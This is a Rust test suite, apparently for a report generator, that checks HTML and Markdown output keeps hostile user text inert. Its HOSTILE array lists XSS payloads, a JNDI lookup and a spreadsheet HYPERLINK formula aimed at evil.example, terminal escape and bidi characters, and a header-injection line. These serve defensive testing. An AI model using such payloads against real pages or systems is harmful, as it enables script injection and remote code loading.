//! What strangers write stays data in every kind of page.

use proptest::prelude::*;
use rebato_core::case::Case;
use rebato_report::{Lang, clean, html, markdown};

use crate::facts::dossier;
use crate::story::{contained, evaluated};
use crate::world::{Strangers, at};

pub(crate) const HOSTILE: [&str; 10] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</style></title></svg><a href=javascript:alert(1)>",
    "exe\u{202e}gpj.\u{2066}x\u{200b}",
    "a\u{1b}[31m\u{9b}2J\u{7}\u{0}\u{1}x\u{2}\r\nHost: evil",
    "| cell \\| cell |\n| --- |\n# heading",
    "`code` ``` [link](https://evil.example) @everyone ![x](//evil.example/x.png) &lt;b&gt;",
    "{{ 7 * 7 }} {% raw %} { $user } ${jndi:ldap://evil.example/a}",
    "=HYPERLINK(\"//evil.example\";\"x\")\t@SUM(1)",
];

fn pages(case: &Case) -> Vec<(Lang, String, String)> {
    let now = at("2026-11-24T08:00:00Z");
    Lang::ALL
        .into_iter()
        .map(|lang| {
            (
                lang,
                html(case, lang, now).unwrap(),
                markdown(case, lang, now),
            )
        })
        .collect()
}

/// The tags of a page, with the names of their attributes and without any value.
pub(crate) fn tags(html: &str) -> Vec<String> {
    html.split('<')
        .skip(1)
        .map(|rest| {
            let tag = rest.split('>').next().unwrap();
            let mut outside = true;
            let names: String = tag
                .chars()
                .filter(|c| {
                    outside ^= *c == '"';
                    outside && *c != '"'
                })
                .collect();
            names
        })
        .collect()
}

pub(crate) fn assert_html_is_ours(html: &str, wanted: &[String]) {
    let tags = tags(html);
    let known: std::collections::BTreeSet<&String> = wanted.iter().collect();
    for tag in &tags {
        assert!(
            known.contains(tag),
            "a tag that the template has not: <{tag}>"
        );
    }
    assert!(
        !html.contains([
            '\u{1b}', '\u{0}', '\u{202e}', '\u{2066}', '\u{200b}', '\u{1}', '\u{2}'
        ]),
        "a raw control character"
    );
}

/// As [`assert_markdown_cells`], and no value made a line of its own.
fn assert_markdown_is_ours(markdown: &str, wanted_lines: usize) {
    assert_markdown_cells(markdown);
    assert_eq!(
        markdown.lines().count(),
        wanted_lines,
        "a value made a line of its own"
    );
}

/// Every row of a table has the cells that its head has, and code spans are closed on their line.
pub(crate) fn assert_markdown_cells(markdown: &str) {
    assert!(
        !markdown.chars().any(|c| c.is_control() && c != '\n'),
        "a raw control character"
    );
    let mut columns = None;
    for line in markdown.lines() {
        if !line.starts_with('|') {
            columns = None;
            continue;
        }
        let cells = line.matches('|').count();
        assert_eq!(
            *columns.get_or_insert(cells),
            cells,
            "a cell too many or too few: {line}"
        );
    }
    for line in outside_code(markdown).lines() {
        assert!(
            !line.contains("](") && !line.contains('@') && !line.contains("://"),
            "markup or a link from data: {line}"
        );
        assert!(
            !line
                .replace("<br>", "")
                .replace("<code>", "")
                .replace("</code>", "")
                .contains('<'),
            "a tag from data: {line}"
        );
    }
}

/// The text without its code spans, read as CommonMark reads them: a fence is closed by one of the same length.
fn outside_code(markdown: &str) -> String {
    let mut out = String::new();
    for line in markdown.lines() {
        let mut rest = line;
        while let Some(start) = rest.find('`') {
            out.push_str(&rest[..start]);
            let fence = rest[start..].chars().take_while(|c| *c == '`').count();
            let mut after = &rest[start + fence..];
            loop {
                let found = after
                    .find('`')
                    .unwrap_or_else(|| panic!("an open code span: {line}"));
                let closing = after[found..].chars().take_while(|c| *c == '`').count();
                after = &after[found + closing..];
                if closing == fence {
                    break;
                }
            }
            rest = after;
        }
        out.push_str(rest);
        out.push('\n');
    }
    out
}

#[test]
fn hostile_texts_stay_text() {
    let calm = pages(&contained(&Strangers::polite()).case());
    for hostile in HOSTILE {
        for ((lang, html, markdown), (_, calm_html, calm_markdown)) in
            pages(&contained(&Strangers::all(hostile)).case())
                .iter()
                .zip(&calm)
        {
            assert_html_is_ours(html, &tags(calm_html));
            assert_markdown_is_ours(markdown, calm_markdown.lines().count());
            assert!(
                !html.contains("⟦") && !html.contains("{$"),
                "{lang}: a text is missing"
            );
        }
    }
}

#[test]
fn the_page_may_load_and_run_nothing() {
    let (_, html, _) = pages(&contained(&Strangers::polite()).case()).remove(0);
    assert!(html.contains("default-src 'none'; style-src 'sha256-"));
    assert!(
        !html.contains("unsafe-inline") && !html.contains("<script") && !html.contains(" style=\"")
    );
    for outside in ["http:", "https:", "//", "url(", "@import"] {
        assert!(!html.contains(outside), "{outside} in the page");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn any_text_stays_text(text in "\\PC*|[<>&\"'`|\\\\\n\r\u{1b}\u{202e}\u{1}\u{2}*_@a ]{0,40}") {
        let calm = Strangers::polite();
        let strangers = Strangers::all(&text);
        let now = at("2026-11-24T08:00:00Z");
        let case = evaluated(&strangers, dossier(&strangers)).case();
        let calm = evaluated(&calm, dossier(&calm)).case();
        assert_html_is_ours(&html(&case, Lang::Es, now).unwrap(), &tags(&html(&calm, Lang::Es, now).unwrap()));
        assert_markdown_is_ours(&markdown(&case, Lang::Es, now), markdown(&calm, Lang::Es, now).lines().count());
    }

    #[test]
    fn clean_text_steers_no_terminal(text in any::<String>()) {
        let shown = clean(&text);
        prop_assert!(!shown.chars().any(char::is_control));
        let hidden = ['\u{202e}', '\u{2066}', '\u{200f}', '\u{200b}', '\u{2028}'];
        prop_assert!(!shown.contains(hidden));
        prop_assert_eq!(clean(&shown), shown);
    }
}
